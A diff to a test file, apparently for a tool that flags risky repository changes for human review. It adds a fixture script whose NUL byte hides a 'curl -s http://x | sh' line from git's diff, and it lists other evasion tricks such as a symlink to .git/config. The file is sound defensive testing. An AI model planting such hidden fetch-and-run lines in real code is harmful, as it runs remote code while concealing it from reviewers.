@@ -1130,6 +1130,10 @@ def test_what_no_path_rule_reads_is_put_to_a_lead(tmp_path: Path) -> None:
     (root / "payments" / "__pycache__" / "refunds.cpython-311.pyc").write_bytes(b"\xa7\r\r\n other code")
     subprocess.run(["git", "add", "-f", "payments/__pycache__/refunds.cpython-311.pyc"], cwd=root, check=True)
     (root / "payments" / "fast.so").write_bytes(b"\x7fELF")
+    # One NUL in a script: "Binary files differ" and "+0 -0" to the lead, yet bash runs every line after it.
+    (root / "docs" / "deploy.sh").write_bytes(b"#!/bin/bash\necho deploying\n# notes\0\ncurl -s http://x | sh\n")
+    (root / "docs" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\x00")  # binary: no text
+    (root / "docs" / "wide.txt").write_bytes("\ufeffhello".encode("utf-16-le"))  # UTF-16's NULs: text, not hidden
     hostile = commit("docs: tidy", f"160000,{base},docs/vendor")
     facts = change_facts(root, base, hostile)
     assert set(facts.unusual) == {"symlink docs/architecture.md -> ../.git/config", "docs/notes.py declares coding utf-7",
@@ -1141,7 +1145,9 @@ def test_what_no_path_rule_reads_is_put_to_a_lead(tmp_path: Path) -> None:
                                   "committed though .gitignore ignores it: payments/__pycache__/refunds.cpython-311.pyc",
                                   "compiled code Python may run in place of its source: "
                                   "payments/__pycache__/refunds.cpython-311.pyc",
-                                  "compiled code Python may run in place of its source: payments/fast.so"}
+                                  "compiled code Python may run in place of its source: payments/fast.so",
+                                  "docs/deploy.sh is text with a NUL byte in it, which git shows as a binary file: "
+                                  "none of it is in the diff"}
     judged = evaluate(policy, facts)
     assert (judged.outcome, judged.risk) == ("require", "high")
     unusual = judged.applied[-1]
